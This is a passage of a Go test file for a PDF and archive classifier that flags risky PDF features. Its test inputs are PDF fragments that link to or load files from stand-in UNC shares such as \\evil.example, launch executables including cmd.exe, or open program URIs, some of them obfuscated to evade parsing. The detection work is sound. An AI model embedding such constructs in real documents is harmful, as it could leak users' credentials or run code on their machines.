		{name: "an article thread, type with a comment", data: pdfFile("/Threads [4 0 R] >>\nendobj\n4 0 obj\n<< /Type % the kind\n/Thread /F 5 0 R"), findings: []string{pdfThread}},
		{name: "UNC link in an object stream with a PNG predictor", data: predicted(`<< /S /URI /URI (\\\\evil.example\\share\\a.pdf) >>`, 2), links: 1, findings: []string{pdfLinkShare}},
		{name: "UNC link in an object stream with PNG filter types above 4", data: predicted(`<< /S /URI /URI (\\\\evil.example\\share\\a.pdf) >>`, 5), links: 1, findings: []string{pdfLinkShare}},
		{name: "program link in an object stream with a PNG predictor", data: predicted(`<< /S /URI /URI (ms-word:ofe|u|\\\\evil.example\\x.docx) >>`, 2), links: 1, findings: []string{pdfLinkProgram + "ms-word:)"}},
		{name: "web link in an object stream with a PNG predictor", data: predicted(`<< /S /URI /URI (https://www.city.example.lg.jp/a.html) >>`, 2), links: 1},
		{name: "link by a reference without a space before R", data: pdfFile("/Annots [<< /A << /S /URI /URI 5 0R >> >>]"), links: 1, findings: []string{pdfLinkUnread}},
		{name: "link by a reference with a decimal number", data: pdfFile("/Annots [<< /A << /S /URI /URI 5.0 0 R >> >>]"), links: 1, findings: []string{pdfLinkUnread}},
		{name: "thread after a type in a comment", data: pdfFile("/OpenAction << /S % /Type\n/Thread /F (\\\\evil.example\\share\\x.pdf) /D 0 >>"), findings: []string{pdfThread}},
		{name: "thread after a type in a comment, no spaces", data: pdfFile("/OpenAction <</S%/Type\n/Thread/F(\\\\evil.example\\share\\x.pdf)>>"), findings: []string{pdfThread}},
		{name: "thread after a type in a string", data: pdfFile("/OpenAction << /X (/Type %) /S /Thread /F (\\\\evil.example\\share\\x.pdf) /D 0 >>"), findings: []string{pdfThread}},
		{name: "thread after a type in a comment, object stream", data: objStmWith("<< /S % /Type\n/Thread /F (\\\\e\\x.pdf) /D 0 >>"), findings: []string{pdfThread}},
		{name: "movie with a file", data: pdfFile(`/Annots [<< /Subtype /Movie /Movie << /F (\\\\evil.example\\m.mov) >> >>]`), findings: []string{pdfMovieSound}},
		{name: "sound action", data: pdfFile(`/OpenAction << /S /Sound /Sound 6 0 R >>`), findings: []string{pdfMovieSound}},
		{name: "launch a UNC path", data: pdfFile(`/OpenAction << /S /Launch /F (\\\\evil.example\\share\\a.exe) >>`), findings: []string{"pdf: launch action"}},
		{name: "launch, escaped", data: pdfFile(`/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >>`), findings: []string{"pdf: launch action"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Classify(bytes.NewReader(tc.data), int64(len(tc.data)), "application/pdf", "a.pdf", Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if res.Links != tc.links {
				t.Errorf("Links = %d, want %d", res.Links, tc.links)
			}
			for _, f := range tc.findings {
				if !slices.Contains(res.Findings, f) {
					t.Errorf("finding %q missing from %q", f, res.Findings)
				}
			}
			if len(tc.findings) == 0 && len(res.Findings) > 0 {
				t.Errorf("Findings = %q, want none", res.Findings)
			}
			if res.Class != ClassPDF {
				t.Errorf("Class = %q, want pdf", res.Class)
			}
		})
	}
}

// TestPDFLinksObjStmPredictor: a real flyer, a LibreOffice Calc sheet
// with 30 links exported to PDF and given object streams by qpdf
// (--object-streams=generate; a hand-made sample). Its xref stream has a
// PNG predictor, its object streams have none: no reader undoes one
// there, and the reading mugai tries with the xref stream's row width
// garbled the links ("htts:"), which stripped the file as linking to a
// program. The same linearized (qpdf --linearize), where the first
// page's xref stream with its predictor comes before the object streams.
func TestPDFLinksObjStmPredictor(t *testing.T) {
	for _, f := range []string{"flyer-objstm.pdf", "flyer-objstm-linearized.pdf"} {
		b, err := os.ReadFile(filepath.Join("testdata", "samples", f))
		if err != nil {
			t.Fatal(err)
		}
		res, err := Classify(bytes.NewReader(b), int64(len(b)), "application/pdf", "flyer.pdf", Limits{})
		if err != nil {
			t.Fatal(err)
		}
		if res.Links != 30 || len(res.Findings) > 0 || res.Class != ClassPDF {
			t.Errorf("%s: Links = %d, findings %q, class %s; want 30 links, none, pdf", f, res.Links, res.Findings, res.Class)
		}
	}
}

// TestPDFLinkTargetKinds: a link's target is read whatever kind of
// value it is, or blocks the file. The files: LibreOffice Calc exported
// notice.pdf from a sheet with two links (a web page, a mail address);
// qpdf --qdf, the web link's /URI value edited by hand, fix-qdf gave the
// link-*.pdf (qpdf --check accepts each); qpdf --object-streams=generate
// put link-name-objstm.pdf's objects (its target the name /event.html)
// and notice-objstm.pdf's (its web link to event1.html, nothing else
// changed) in object streams.
func TestPDFLinkTargetKinds(t *testing.T) {
	for _, tc := range []struct {
		file    string
		links   int
		finding string
	}{
		{"notice.pdf", 2, ""},
		// A name: pdf.js opens "/" and the name, relative to the file.
		{"link-name.pdf", 2, pdfLinkShare}, // /#5C#5Cevil.example#5Cshare#5Cnotice.pdf
		{"link-name-objstm.pdf", 2, pdfLinkRelative},
		{"link-array.pdf", 2, pdfLinkUnread},
		{"link-hex.pdf", 2, pdfLinkShare},
		{"link-ref.pdf", 2, pdfLinkUnread}, // 19 0 R, a UNC path in a string object
		// The xref stream's row width read through its object stream
		// makes "/S /URI /Type" "/S /URI /Typ": no relative link.
		{"notice-objstm.pdf", 2, ""},
	} {
		t.Run(tc.file, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join("testdata", "samples", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			res, err := Classify(bytes.NewReader(b), int64(len(b)), "application/pdf", tc.file, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			var want []string
			if tc.finding != "" {
				want = []string{tc.finding}
			}
			if res.Links != tc.links || !slices.Equal(res.Findings, want) || res.Class != ClassPDF {
				t.Errorf("Links = %d, findings %q, class %s; want %d, %q, pdf", res.Links, res.Findings, res.Class, tc.links, want)
			}
		})
	}
}

func TestGarbledScheme(t *testing.T) {
	for _, tc := range []struct {
		target string
		want   bool
	}{
		{"htts://www.city.example.lg.jp/", true},
		{"htt://x", true},
		{"mailo:a@b", true},
		{"te:0312345678", true},
		{"https://x", false},
		{"http://x", false},
		{"ms-word:ofe|u|\\\\evil\\x.docx", false},
		{"file://evil/x", false},
		{"smb://evil/x", false},
		{"\\\\evil\\share", false},
		{"https//x (lost its colon: relative)", false},
	} {
		if got := garbledScheme([]byte(tc.target)); got != tc.want {
			t.Errorf("garbledScheme(%q) = %v, want %v", tc.target, got, tc.want)
		}
	}
}

// acrossWindow has an annotation twice: at the start, and with its /URI
// name 100 bytes before the end of the scanner's first window. Read
// whole both times, its target is one link.
func acrossWindow(annot string) []byte {
	p := pdfFile("/Annots [" + annot + "] /Annots [" + annot + "]")
	i := bytes.LastIndex(p, []byte("/Annots"))
	j := bytes.LastIndex(p, []byte("/URI ("))
	pad := "%" + strings.Repeat("x", scanWindow-100-j-2) + "\n"
	return append(append(append([]byte{}, p[:i]...), pad...), p[i:]...)
}

// TestPDFLinksInZip: the links of every PDF in an archive are counted.
func TestPDFLinksInZip(t *testing.T) {
	a := pdfFile("/Annots [<< /A << /S /URI /URI (https://a.example/) >> >>]")
	b := pdfFile("/Annots [<< /A << /S /URI /URI (https://b.example/) >> >> << /A << /S /URI /URI (https://a.example/) >> >>]")
	z := zipFile(t, deflate("a.pdf", a), deflate("b.pdf", b))
	res, err := Classify(bytes.NewReader(z), int64(len(z)), "application/zip", "docs.zip", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Links != 2 {
		t.Errorf("Links = %d, want 2 (findings %q)", res.Links, res.Findings)
	}
}

// TestPDFOpensOtherFile: a PDF that has the reader fetch another file
// for what it shows is blocked, the finding naming what: a stream whose
// data stand in another file (PDF 32000 7.3.8.2: /F in its dictionary,
// /FFilter, /FDecodeParms), a reference XObject (8.10.4: /Ref). The
// real files: notice.pdf (LibreOffice Calc) through qpdf --qdf, edited
// by hand (the page's content stream given /F, a UNC path; a form
// XObject with /Ref drawn on the page), fix-qdf, each accepted by qpdf
// --check; the -objstm one through qpdf --object-streams=generate. An
// /F elsewhere (a file specification's name, an annotation's flags) or
// in image data is no such thing.
func TestPDFOpensOtherFile(t *testing.T) {
	for _, f := range []string{"external-stream.pdf", "external-stream-objstm.pdf"} {
		testPDFSample(t, f, pdfExternalStream)
	}
	testPDFSample(t, "reference-xobject.pdf", pdfRefXObject)

	// streamAfter is a PDF with one stream object, dict its dictionary,
	// between what stands between the dictionary and "stream".
	streamAfter := func(dict, between string) []byte {
		return append(pdfFile(""), "3 0 obj\n<< "+dict+" /Length 4 >>"+between+"stream\nq Q\n\nendstream\nendobj\n"...)
	}
	stream := func(dict string) []byte { return streamAfter(dict, "\n") }
	pad := "/Pad (" + strings.Repeat("x", 3000) + ")"
	// at moves the first mark in p to offset off, a comment line put
	// before the first object.
	at := func(p []byte, mark string, off int) []byte {
		i, j := bytes.Index(p, []byte("1 0 obj")), bytes.Index(p, []byte(mark))
		if j < i || off-j < 2 {
			t.Fatalf("cannot move %q to %d", mark, off)
		}
		comment := "%" + strings.Repeat("x", off-j-2) + "\n"
		return append(append(append([]byte{}, p[:i]...), comment...), p[i:]...)
	}
	// atWindowEnd has the stream's /F 100 bytes before the end of the
	// scanner's first window, its dictionary ending in the next.
	atWindowEnd := func() []byte {
		return at(stream(`/F (\\\\evil.example\\s\\c.bin) /Pad (`+strings.Repeat("x", 1500)+")"), "/F (", scanWindow-100)
	}
	const unc = `/F (\\\\evil.example\\s\\c.bin)`
	// thread is a PDF with an article thread, its /F a reference, its
	// information dictionary (/I) longer than mugai once read of it.
	thread := pdfFile("/Threads [<< /Type /Thread /F 9 0 R /I << /Title (" + strings.Repeat("t", 2100) + ") >> >>]")
	cases := []classifyCase{
		{name: "content stream from a UNC path", data: stream(`/F (\\\\evil.example\\share\\c.bin)`), findings: []string{pdfExternalStream}},
		{name: "stream from a URL file specification", data: stream(`/F << /FS /URL /F (https://evil.example/c.bin) >> /FFilter /FlateDecode`), findings: []string{pdfExternalStream}},
		{name: "stream from a file specification by reference", data: stream("/Type /XObject /F 9 0 R"), findings: []string{pdfExternalStream}},
		{name: "stream from a file in a hex string, after a comment", data: stream("/F % where\n<5c5c652e6578616d706c655c73> /Filter /FlateDecode"), findings: []string{pdfExternalStream}},
		{name: "stream from a file, its dictionary padded", data: stream(`/F (\\\\evil.example\\s\\c.bin) ` + pad), findings: []string{pdfExternalStream}},
		{name: "stream from a file, a string with >> and stream in it", data: stream(`/F (c.bin) /X (>> stream\) >>) /Y <</Z (\(>>)>>`), findings: []string{pdfExternalStream}},
		{name: "stream from a file, its dictionary across a window's end", data: atWindowEnd(), findings: []string{pdfExternalStream}},
		// Readers skip any amount of white space and comments between
		// a dictionary and "stream", and read a dictionary of any length.
		{name: "stream from a file, white space before stream", data: streamAfter(unc, strings.Repeat(" ", 600)+"\n"), findings: []string{pdfExternalStream}},
		{name: "stream from a file, comment lines before stream", data: streamAfter(unc, "\n"+strings.Repeat("%"+strings.Repeat("c", 100)+"\n", 6)), findings: []string{pdfExternalStream}},
		{name: "stream from a file, a window of white space before stream", data: streamAfter(unc, strings.Repeat(" \r\n", scanWindow)), findings: []string{pdfExternalStream}},
		{name: "stream from a file, its dictionary longer than a window", data: stream(unc + " /Pad [" + strings.Repeat("(x) << /A (>>) >> % >>\n", scanWindow/8) + "]"), findings: []string{pdfExternalStream}},
		{name: "stream from a file, stream after a window's end", data: at(streamAfter(unc, strings.Repeat(" ", 5000)), "stream\n", scanWindow+10), findings: []string{pdfExternalStream}},
		{name: "stream from a file at the end of the file", data: append(pdfFile(""), "3 0 obj<</Length 0/F(\\\\e\\s)>>stream\n\nendstream"...), findings: []string{pdfExternalStream}},
		{name: "FFilter alone", data: stream("/FFilter /FlateDecode"), findings: []string{pdfExternalStream}},
		{name: "FDecodeParms alone", data: stream("/FDecodeParms << /Predictor 12 >>"), findings: []string{pdfExternalStream}},
		{name: "reference XObject by reference", data: stream("/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref 9 0 R"), findings: []string{pdfRefXObject}},
		{name: "file specification in an object stream", data: objStmPDF("/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode",
			deflateBytes([]byte("1 0 2 38 << /Type /Catalog /Pages 3 0 R >> << /F (\\\\\\\\evil.example\\\\x.pdf) /Page 0 >>"))), findings: nil, clean: true},
		// Not a stream's: a remote go-to's file, an annotation's flags,
		// an embedded file's stream, a structure element's /Ref (PDF 2.0).
		{name: "remote go-to's file", data: pdfFile(`/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>`), findings: []string{"pdf: remote go-to action"}},
		{name: "annotation flags", data: stream("/Subtype /Form /BBox [0 0 1 1] /Annots [<< /Subtype /Link /F 4 >>]"), clean: true},
		{name: "file specification before a stream object", data: append(pdfFile("/AF [4 0 R]"), "4 0 obj\n<< /Type /Filespec /F (a.xml) /UF (a.xml) >>\nendobj\n3 0 obj\n<< /Length 4 >>\nstream\nq Q\n\nendstream\nendobj\n"...), clean: true},
		{name: "structure element references", data: pdfFile("/StructTreeRoot << /K [<< /S /P /Ref [5 0 R 6 0 R] >>] >>"), clean: true},
		{name: "image data that reads /F(", data: imagePDF([]byte("\x93/F(ab cd ef gh ij kl mn op qr st uv wx yz) >>\n\xff")), clean: true},
		{name: "article thread, its information long", data: thread, clean: true},
		{name: "article thread across a window's end", data: at(thread, "/F 9", scanWindow-500), clean: true},
		{name: "thread, then a stream's dictionary", data: append(thread, "3 0 obj\n<< /Length 4 "+unc+" >>\nstream\nq Q\n\nendstream\nendobj\n"...), findings: []string{pdfExternalStream}},
		{name: "OPI proxy of an image", data: stream("/Type /XObject /Subtype /Image /OPI << /2.0 << /Type /OPI /Version 2.0 /F (hires.tif) >> >>"), clean: true},
		{name: "file specification, then white space and a name", data: append(pdfFile("/AF [4 0 R]"), "4 0 obj\n<< /Type /Filespec /F (a.xml) >>"+strings.Repeat(" ", 5000)+"/streamX\nendobj\n"...), clean: true},
	}
	// Each token that tells where the dictionary ends, and "stream",
	// cut by the end of the first window at every byte.
	spec := append(pdfFile("/AF [4 0 R]"), "4 0 obj\n<< /Type /Filespec /F (a.xml) /I << /X <41> >> >>\nendobj\n"...)
	for k := 1; k <= 8; k++ {
		for _, mark := range []string{"/F (", "<< /X", "<41>", ">> /Length", "4 >>", "stream\n"} {
			cases = append(cases, classifyCase{name: fmt.Sprintf("stream from a file, %q %d bytes before a window's end", mark, k),
				data: at(stream(unc+" /I << /X <41> >>"), mark, scanWindow-k), findings: []string{pdfExternalStream}})
		}
		// A token after the specification that starts as "stream" does,
		// cut by the window's end, then a stream's dictionary.
		cases = append(cases, classifyCase{name: fmt.Sprintf("file specification, a token %d bytes before a window's end, then a stream's /F", k),
			data:     at(append(pdfFile(""), "3 0 obj\n<< /Type /Filespec /F (a.xml) /Desc ("+strings.Repeat("x", 40)+") >> s<<"+unc+" /Length 4 >>\nstream\nq Q\n\nendstream\nendobj\n"...), "s<<", scanWindow-k),
			findings: []string{pdfExternalStream}})
		for _, mark := range []string{"/F (", "<< /X", "<41>", ">> >>", ">>\nendobj"} {
			cases = append(cases, classifyCase{name: fmt.Sprintf("file specification, %q %d bytes before a window's end", mark, k),
				data: at(spec, mark, scanWindow-k), clean: true})
		}
	}
	for i := range cases {
		cases[i].filename, cases[i].class = "a.pdf", ClassPDF
	}
	runClassify(t, cases)
}

// testPDFSample classifies a PDF under testdata/samples, which must have
// exactly the finding want.
func testPDFSample(t *testing.T, file, want string) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "samples", file))
	if err != nil {
		t.Fatal(err)
	}
	res, err := Classify(bytes.NewReader(b), int64(len(b)), "application/pdf", file, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(res.Findings, []string{want}) || res.Class != ClassPDF {
		t.Errorf("%s: findings %q, class %s; want %q, pdf", file, res.Findings, res.Class, want)
	}
}
